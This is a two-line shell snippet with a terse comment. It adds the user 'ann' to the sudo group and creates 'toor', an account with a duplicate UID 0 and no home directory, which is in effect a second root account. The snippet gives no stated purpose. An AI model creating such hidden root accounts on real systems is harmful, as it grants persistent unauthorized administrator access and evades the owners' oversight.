# An account becomes a member of sudo; one with number 0
#record
usermod -aG sudo ann
useradd -o -u 0 -M toor
